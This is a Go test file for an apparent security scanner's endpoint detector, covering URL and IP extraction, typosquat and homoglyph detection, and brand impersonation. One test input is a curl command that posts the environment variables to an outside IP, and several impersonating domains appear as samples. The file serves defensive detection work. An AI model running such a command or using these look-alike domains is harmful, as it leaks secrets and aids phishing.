package endpoint

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/analyze"
)

func TestFind(t *testing.T) {
	tests := []struct {
		in   string
		want []string // kind host value
	}{
		{`curl -d "$(env)" http://203.0.113.86/upload/v2 || true`, []string{"url 203.0.113.86 http://203.0.113.86/upload/v2"}},
		{`fetch("https://cdn.chatvem.example/agent/app-config.js").then(`, []string{"url cdn.chatvem.example https://cdn.chatvem.example/agent/app-config.js"}},
		{`see (https://example.com/a_(b)).`, []string{"url example.com https://example.com/a_(b)"}},
		{`ws://[::1]:8080/x`, []string{"url ::1 ws://[::1]:8080/x"}},
		{`HTTPS://Api.GitHub.com/`, []string{"url api.github.com HTTPS://Api.GitHub.com/"}},
		{`server 8.8.8.8 and 2001:db8::1 too`, []string{"ip 8.8.8.8 8.8.8.8", "ip 2001:db8::1 2001:db8::1"}},
		{`mail dev@fluxkern.example, pool.hashpool.example:443`, []string{"domain fluxkern.example fluxkern.example", "domain pool.hashpool.example pool.hashpool.example"}},
		// Versions, OIDs, files and member expressions are not endpoints.
		{`v1.2.3.4 1.3.6.1.4.1.311 1.2.3.4-beta 10.0.0.256`, nil},
		{`require("./index.js"); package.json; this.name; req.app; /x/.test(s); README.md; libfoo.so; setup.py; std::vector; a ? b : c`, nil},
		{`System.Net.WebClient $x.com foo.com(1)`, nil},
		{`http://${host}/x`, nil},
		{`see https://аpple.com/id`, []string{"url xn--pple-43d.com https://аpple.com/id"}}, // Cyrillic а
	}
	for _, tt := range tests {
		var got []string
		for _, h := range Find([]byte(tt.in)) {
			got = append(got, fmt.Sprintf("%s %s %s", h.Kind, h.Host, h.Value))
			if !strings.HasPrefix(tt.in[h.Offset:], h.Value) {
				t.Errorf("Find(%q): offset %d does not start %q", tt.in, h.Offset, h.Value)
			}
		}
		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("Find(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}

func TestLookAlike(t *testing.T) {
	tests := []struct {
		a, b string
		want bool
	}{
		{"chatvem", "chatvern", true},
		{"paypa1", "paypal", true},
		{"g00gle", "google", true},
		{"vvindows", "windows", true},
		{"xn--pple-43d", "apple", true}, // Cyrillic а
		{"chatvernn", "chatvern", true},
		{"jquery", "jquery", false},
		{"nodejs", "nodejs", false},
		{"node12", "node14", false},
		{"lodash", "moment", false},
		{"ajv", "ajx", false}, // short labels need a confusable, not any edit
		{"example", "examples", false},
		{"cython", "python", false}, // other projects, not typos
		{"ipython", "python", false},
		{"chatvorn", "chatvern", true},
	}
	for _, tt := range tests {
		if got := LookAlike(tt.a, tt.b); got != tt.want {
			t.Errorf("LookAlike(%q, %q) = %v, want %v", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestImpersonates(t *testing.T) {
	tests := []struct {
		host, brand, level string
	}{
		{"microsoft-update-cdn.com", "microsoft", "high"},
		{"dl.npmjs-registry.org", "npmjs", "high"},
		{"github-stats.net", "github", "medium"},
		{"rnicrosoft.com", "microsoft", "high"},
		{"xn--pple-43d.com", "apple", "high"},
		{"github.com", "", ""},
		{"github.example", "", ""},
		{"registry.npmjs.org", "", ""},
		{"www.google-analytics.com", "", ""},
		{"chatvern.example", "", ""},
	}
	for _, tt := range tests {
		brand, lvl, ok := Impersonates(tt.host)
		if !ok {
			if tt.brand != "" {
				t.Errorf("Impersonates(%q) = false, want %s %s", tt.host, tt.brand, tt.level)
			}
			continue
		}
		if brand != tt.brand || lvl.String() != tt.level {
			t.Errorf("Impersonates(%q) = %s %s, want %q %q", tt.host, brand, lvl, tt.brand, tt.level)
		}
	}
}

func TestRegistrable(t *testing.T) {
	for in, want := range map[string]string{
		"updates.chatvern.example": "chatvern.example",
		"www.bbc.co.uk":            "bbc.co.uk",
		"localhost":                "localhost",
		"a.b.github.io":            "b.github.io",
	} {
		if got := Registrable(in); got != want {
			t.Errorf("Registrable(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzFind(f *testing.F) {
	for _, s := range []string{"http://1.2.3.4/", "a.example b@c.com", "[::1]", "https://[fe80::1%25en0]:80/", "1.2.3.4.5", "x:y:z::1"} {
		f.Add([]byte(s))
	}
	if b, err := os.ReadFile("testdata/mixed.txt"); err == nil {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		last := -1
		for _, h := range Find(b) {
			if h.Offset <= last || h.Offset+len(h.Value) > len(b) || string(b[h.Offset:h.Offset+len(h.Value)]) != h.Value {
				t.Fatalf("bad hit %+v", h)
			}
			last = h.Offset
			Registrable(h.Host)
			Impersonates(h.Host)
			Skeleton(Label(h.Host))
		}
	})
}

func BenchmarkFind(b *testing.B) {
	data, err := os.ReadFile("testdata/mixed.txt")
	if err != nil {
		b.Fatal(err)
	}
	big := []byte(strings.Repeat(string(data), 200))
	b.SetBytes(int64(len(big)))
	for b.Loop() {
		Find(big)
	}
}

// TestReleaseScanTies: in a scan, two names one letter apart and used
// equally are two projects; two names that look the same are both shown.
func TestReleaseScanTies(t *testing.T) {
	ff := func(path string, doms ...string) analyze.FileFacts {
		f := analyze.FileFacts{Path: path, Facts: map[string]string{}}
		for i, d := range doms {
			AddDomain(f.Facts, d, i+1, i*10)
		}
		return f
	}
	if got := (Analyzer{}).AnalyzeRelease(nil, []analyze.FileFacts{ff("a.js", "chatvorn.example", "chatvern.example")}); len(got) != 0 {
		t.Errorf("one-letter tie: %+v", got)
	}
	if got := (Analyzer{}).AnalyzeRelease(nil, []analyze.FileFacts{ff("a.js", "chatvorn.example", "chatvern.example"), ff("b.js", "chatvern.example")}); len(got) != 1 || got[0].Finding.Match != "chatvorn.example" {
		t.Errorf("one-letter, rarer suspect: %+v", got)
	}
	if got := (Analyzer{}).AnalyzeRelease(nil, []analyze.FileFacts{ff("a.js", "chatvem.example", "chatvern.example")}); len(got) != 2 {
		t.Errorf("confusable tie: %+v", got)
	}
	var many []string
	for i := 0; i < maxListed+5; i++ {
		many = append(many, fmt.Sprintf("site%03d.example", i))
	}
	list := ff("list.json", append(many, "chatvem.example")...)
	if got := (Analyzer{}).AnalyzeRelease(nil, []analyze.FileFacts{list, ff("a.js", "chatvern.example"), ff("b.js", "chatvern.example")}); len(got) != 0 {
		t.Errorf("domain list: %+v", got)
	}
}
